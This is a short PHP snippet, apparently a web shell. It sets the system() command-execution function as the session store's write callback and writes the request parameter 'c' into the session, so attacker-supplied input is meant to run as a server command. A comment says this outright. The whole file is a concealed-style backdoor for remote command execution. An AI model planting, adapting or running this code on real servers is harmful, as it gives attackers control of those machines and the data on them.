<?php
// The session store's "write" callback is system(): the session data the request sets runs as a
// command when the session is saved.
function o() { return true; }
function r($id) { return ''; }
session_set_save_handler('o', 'o', 'r', 'system', 'o', 'o');
session_start();
$_SESSION['x'] = $_GET['c'];
